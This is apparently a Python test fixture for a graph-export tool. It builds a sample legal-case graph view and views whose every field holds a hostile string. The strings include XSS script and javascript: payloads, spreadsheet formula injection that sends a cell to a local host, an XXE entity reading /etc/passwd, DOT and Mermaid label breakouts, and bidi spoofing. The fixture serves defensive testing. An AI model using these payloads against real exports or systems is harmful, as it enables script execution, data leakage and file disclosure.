"""Views made by hand: a small case with every kind of value, and views in which every field of every record is hostile."""

from __future__ import annotations

from typing import Any

from graph.export.view import (
    GraphView,
    LegendEntry,
    ViewClaim,
    ViewConflict,
    ViewEdge,
    ViewNode,
    ViewSource,
)

HOSTILE = {
    "script": "<script>window.ran = 1</script>",
    "closing tags": "</script></title></text></svg></style>]]>--><x>",
    "href": '<a href="javascript:window.ran=1" xlink:href="http://127.0.0.1:9/x">h</a>',
    "event handler": "'\"><image onerror=window.ran=1 href=x>",
    "address": "javascript:window.ran=1",
    "formula": '=HYPERLINK("http://127.0.0.1:9/?"&A1)',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1;1)",
    "tab": "\t=1+1",
    "line end": "\r\n=1+1",
    "wide equals": "\uff1d1+1",
    "apostrophe": "'=1+1",
    "entity": "&lt;&amp;&#60;&xxe;",
    "doctype": '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    "dot string": '"]; graph [URL="http://127.0.0.1:9"]; x [label="',
    "dot backslash": '\\\\N \\G \\" \\',
    "dot html": "<<TABLE><TR><TD>x</TD></TR></TABLE>>",
    "mermaid": '"]; click n0 href "javascript:window.ran=1"; x["`**b**`#quot;',
    "mermaid directive": "%%{init: {'securityLevel': 'loose'}}%% end subgraph",
    "csv": 'a";"=1+1,\n"b',
    "bidi": "\u202egnp.exe\u2066",
    "null": "a\x00b\x1b[31m\x07",
    "separators": "a\u2028b\u2029c\x85d",
    "surrogate": "a\ud800b",
    "no character": "a\ufffeb\uffffc",
    "marks": "Z\u0351a\u0322l\u0335go",
    "other plane": "𝕏 \U0001f469\u200d\u2696\ufe0f",
    "right to left": "عبد العزيز",
    "blank": " ",
    "empty": "",
    "semicolons": "a; b;\\; c\\",
    "long": "x" * 1_000_000,
}


def case(**changes: Any) -> GraphView:
    """Two persons, a case, a ruling and a company; parallel edges both ways, a loop, figures, dates of every precision."""
    nodes = [
        ViewNode(id="askar", kind="Person", name="Аскар К.", names=["Аскар К.", "Askar; K."], summary="Went\nand came back.",
                 sources=["report"], properties={"birth_date": "1994~", "age": 31, "tall": 1.5, "list": ["a;b", "c\\"]}),
        ViewNode(id="case", kind="LegalCase", name="The case", properties={"opened": "2023-05", "closed": "2024"}),
        ViewNode(id="firm", kind="Company", name="Firm", properties={"founded": "2001-02-03"}),
        ViewNode(id="olim", kind="Person", name="Olim", protected=True, properties={"age": "about 30"}),
        ViewNode(id="ruling", kind="Ruling", name="Verdict", date="2023-06", date_earliest="2023-06-01",
                 date_latest="2023-06-30", properties={"date": "2023-06", "sentence_months": 54}),
    ]  # fmt: skip
    edges = [
        ViewEdge(id="askar|DEFENDANT_IN|case", relation="DEFENDANT_IN", source="askar", target="case", grade="B2",
                 since="2023-05", until="2024", since_earliest="2023-05-01", since_latest="2023-05-31",
                 until_earliest="2024-01-01", until_latest="2024-12-31", sources=["report"], origins=["firm", "report"]),
        ViewEdge(id="askar|EMPLOYED_BY|firm", relation="EMPLOYED_BY", source="askar", target="firm", status="alleged",
                 since="2020?", properties={"role": "driver", "age": 2}),
        ViewEdge(id="askar|POSSIBLY_SAME_AS|olim", relation="POSSIBLY_SAME_AS", source="askar", target="olim",
                 properties={"reasons_for": ["one", "two; three"]}),
        ViewEdge(id="askar|RELATIVE_OF|askar", relation="RELATIVE_OF", source="askar", target="askar"),
        ViewEdge(id="olim|RELATIVE_OF|askar", relation="RELATIVE_OF", source="olim", target="askar", status="denied"),
        ViewEdge(id="ruling|RULED_IN|case", relation="RULED_IN", source="ruling", target="case"),
    ]  # fmt: skip
    claims = [
        ViewClaim(id="c1", text="He stands trial.", property="DEFENDANT_IN", status="asserted", grade="B2", source="report",
                  origin="firm", credibility=2, reliability="B", about=["askar", "case"], relation="askar|DEFENDANT_IN|case",
                  attributed_to=["firm", "An agency"], locator_start=3, locator_end=9),
        ViewClaim(id="c2", text="-5 of them.", property="metric", status="asserted", grade="C3", source="report", about=["firm"],
                  metric="m", scope="=all", value=-5, bound="at_least", unit="persons", as_of="2024"),
        ViewClaim(id="c3", text="6 of them.", property="metric", status="asserted", grade="C3", source="report", about=["firm"],
                  metric="m", scope="=all", value=6, bound="exactly", unit="persons", as_of="2024"),
    ]  # fmt: skip
    source = ViewSource(id="report", title="A report", url="https://example.org/?a=1&b=2", publisher="Paper", published="2025-01")
    conflict = ViewConflict(finding="conflict", measure="m", scope="=all", one="c2", other="c3", why="they differ")
    looks = {
        "Company": ("#B37700", "square"),
        "LegalCase": ("#C9A800", "diamond"),
        "Person": ("#0072B2", "dot"),
        "Ruling": ("#882255", "box"),
    }
    made = GraphView(
        title="Дело", description="A case", query="--around askar --hops 1", as_of="2024-05-01",
        generated="2026-11-22", version="1",
        nodes=nodes, edges=edges, claims=claims, sources=[source], conflicts=[conflict],
        kinds=[LegendEntry(key=key, label=key, count=1, colour=colour, shape=shape) for key, (colour, shape) in looks.items()],
        relations=[LegendEntry(key=key, label=key, count=1) for key in sorted({edge.relation for edge in edges})],
    )  # fmt: skip
    return made.model_copy(update=changes)


def hostile(text: str) -> GraphView:
    """A view in which every field is the text, as far as ids still lead from edges to nodes."""
    other = f"{text}2"
    own = {"name": text, "names": [text, other], "summary": text, "datasets": [text], "sources": [text], "date": text,
           "date_earliest": text, "date_latest": text}  # fmt: skip
    properties = {text: text, "list": [text, {text: text}], "founded": text, "opened": 3}
    nodes = [ViewNode(id=name, kind=text, properties=properties, protected=True, **own) for name in (text, other)]
    days = dict.fromkeys(("since", "until", "since_earliest", "since_latest", "until_earliest", "until_latest"), text)
    ends = [(text, other), (text, other), (other, text), (text, text)]
    edges = [
        ViewEdge(id=f"{text}{at}", relation=text, source=one, target=two, status=text, grade=text, **days, sources=[text],
                 origins=[text, "x"], properties=properties)
        for at, (one, two) in enumerate(ends)
    ]  # fmt: skip
    claim = ViewClaim(id=text, text=text, property=text, status=text, grade=text, source=text, origin=text, reliability=text,
                      recorded_at=text, language=text, since=text, until=text, about=[text], attributed_to=[text, other],
                      relation=f"{text}0", metric=text, scope=text, value=text, bound=text, unit=text, as_of=text)  # fmt: skip
    source = ViewSource(id=text, title=text, url=text, publisher=text, published=text, language=text, reliability=text)
    legend = LegendEntry(key=text, label=text, count=2, colour=text, shape=text)
    conflict = ViewConflict(finding=text, measure=text, scope=text, one=text, other=text, why=text)
    return GraphView(title=text, description=text, query=text, as_of=text, known_at=text, generated=text, version=text,
                     nodes=nodes, edges=edges, claims=[claim], sources=[source], conflicts=[conflict],
                     kinds=[legend], relations=[legend])  # fmt: skip
